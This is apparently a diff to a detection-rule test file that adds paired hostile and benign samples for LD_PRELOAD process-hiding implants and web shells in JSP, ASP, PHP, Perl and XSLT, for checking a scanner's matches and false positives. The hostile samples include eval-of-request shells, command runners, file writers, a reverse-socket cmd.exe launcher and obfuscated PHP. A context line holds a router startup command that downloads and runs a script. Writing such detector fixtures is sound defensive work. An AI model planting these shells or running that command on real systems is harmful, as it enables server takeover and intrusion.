@@ -653,6 +653,58 @@ SAMPLES = {
     "edge_startup_variable": (
         ("h", "nvram set rc_startup=\"wget http://192.0.2.7/x -O /tmp/x; sh /tmp/x\"; nvram commit\n"),
         ("h", "nvram set rc_startup=\"sleep 5; led on\"; nvram commit\n")),
+    "implant_preload_hides_names": (
+        ("l.so", strings(ELF_SO, "dlsym", bytes(c ^ 0xfe for c in b"/etc/ld.so.preload"))),
+        ("l.so", strings(ELF_SO, "dlsym", "/etc/ld.so.preload", "/proc/net/tcp"))),
+    "implant_process_hider": (
+        ("l.so", strings(ELF_SO, "readdir", "dlsym", "/proc/self/fd/%d", "/proc/%s/stat", "%d (%[^)]s")),
+        ("l.so", strings(ELF_SO, "readdir", "dlsym", "/proc/self/fd/%d", "/proc/%s/stat"))),
+    "webshell_chopper_server": (
+        ("c.jsp", "<%@page import=\"java.io.*\"%><%out.print(\"->|\"); String z = request.getParameter(\"z0\"); out.print(\"|<-\");%>"),
+        ("c.jsp", "<%@page import=\"java.io.*\"%><%out.print(\"->|\"); String z = request.getParameter(\"z0\");%>")),
+    "webshell_default_key": (
+        ("s.jsp", "<%@page import=\"javax.crypto.*\"%><% String k=\"e45e329feb5d925b\"; session.putValue(\"u\",k); Cipher c=Cipher.getInstance(\"AES\"); %>"),
+        ("s.jsp", "<%@page import=\"javax.crypto.*\"%><% String k=config.key(); Cipher c=Cipher.getInstance(\"AES\"); %>")),
+    "webshell_jsp_file_writer": (
+        ("w.jsp", "<%if(request.getParameter(\"f\")!=null)(new java.io.FileOutputStream(application.getRealPath(\"/\")+request.getParameter(\"f\"))).write(request.getParameter(\"t\").getBytes());%>"),
+        ("w.jsp", "<% java.io.FileWriter w = new java.io.FileWriter(\"/srv/log\"); w.write(\"x\"); %>")),
+    "webshell_jsp_shell_process": (
+        ("r.jsp", "<%@page import=\"java.net.*\"%><% Socket s = new Socket(h, 443); Process p = Runtime.getRuntime().exec(\"cmd.exe\"); %>"),
+        ("r.jsp", "<%@page import=\"java.net.*\"%><% Socket s = new Socket(\"localhost\", 25); %>")),
+    "webshell_jsp_hidden_names": (
+        ("h.jsp", "<% Class.forName(new String(new byte[]{106,97,118,97,46,108,97,110,103})).getMethod(m, String.class).invoke(o, request.getParameter(\"c\")); %>"),
+        ("h.jsp", "<% String s = new String(new byte[]{0x41}); out.print(request.getParameter(\"c\").length()); %>")),
+    "webshell_asp_shell_object": (
+        ("c.asp", "<% Set s = Server.CreateObject(\"WSCRIPT.SHELL\")\nszCMD = request(\"cmd\")\nCall s.Run(\"cmd.exe /c \" & szCMD & \" > \" & f, 0, True) %>"),
+        ("c.asp", "<% Set s = Server.CreateObject(\"Scripting.Dictionary\")\nq = request(\"q\") %>")),
+    "webshell_asp_hidden_execute": (
+        ("e.asp", "<%\nx1 = request(\"pass\")\nx2 = x1\neval x2\n%>"),
+        ("e.asp", "<%\nx1 = request(\"id\")\nset rs = conn.execute(\"select name from products where hidden = 0\")\n%>")),
+    "webshell_asp_file_writer": (
+        ("w.asp", "<% set fs=server.CreateObject(\"scripting.filesystemobject\")\nset f=fs.CreateTextFile(request(\"p\"),True)\nf.Write(request(\"c\")) %>"),
+        ("w.asp", "<% set fs=server.CreateObject(\"scripting.filesystemobject\")\nset f=fs.OpenTextFile(\"hits.txt\")\nn = request(\"n\") %>")),
+    "webshell_xslt_script": (
+        ("x.asp", "<% x=\"<xsl:stylesheet xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script implements-prefix='zcg' language='JScript'>function f(){return"
+            " new ActiveXObject('wscript.shell').exec(c)}</ms:script>\" : c = request(\"c\") %>"),
+        ("x.asp", "<% x=\"<xsl:stylesheet xmlns:ms='urn:schemas-microsoft-com:xslt'></xsl:stylesheet>\" : c = request(\"c\") %>")),
+    "webshell_php_variable_call": (
+        ("v.php", "<?php $a = substr('1a',1).'s'.'s'.'e'.'r'.'t'; $a($_POST['x']);?>"),
+        ("v.php", "<?php $a = trim($_POST['x']); $o = new Mailer($a); $o->send($_POST['y']); ?>")),
+    "webshell_php_decoded_eval": (
+        ("d.php", "<?php eval(str_rot13(gzinflate(str_rot13(base64_decode(($b)))))); ?>"),
+        ("d.php", "<?php $x = gzinflate(base64_decode($b)); eval('?>' . $template); ?>")),
+    "webshell_php_sorting_call": (
+        ("s.php", "<?php $e = $_REQUEST['e']; $arr = array(1); array_reduce($arr, $e, $_POST['x']); ?>"),
+        ("s.php", "<?php $names = array_map('trim', explode(',', $_POST['names'])); echo count($names); ?>")),
+    "webshell_php_stays_in_memory": (
+        ("m.php", "<?php ignore_user_abort(true); set_time_limit(0); unlink(__FILE__); while (1) { file_put_contents('a.php', $c); usleep(100); } ?>"),
+        ("m.php", "<?php set_time_limit(0); while ($r = next_row()) { file_put_contents('export.csv', $r, FILE_APPEND); } ?>")),
+    "webshell_php_xored_names": (
+        ("x.php", "<?php $a = \"~+d()\"^\"!{+{}\"; $b = ${$a}[a]; eval($b); ?>"),
+        ("x.php", "<?php $a = $b ^ $c; echo bin2hex($a); ?>")),
+    "webshell_perl_command": (
+        ("c.pl", "#!/usr/bin/perl\n%FORM = parse($ENV{'QUERY_STRING'});\n$cmd = $FORM{cmd};\nopen(CMD, \"($cmd) 2>&1 |\");\n"),
+        ("c.pl", "#!/usr/bin/perl\n%FORM = parse($ENV{'QUERY_STRING'});\nopen(LOG, \"| /usr/bin/logger -t web\");\n")),
 }
 
 # As advisories and reports quote them: each is looked for in text, and in UTF-16 as Windows logs have it.
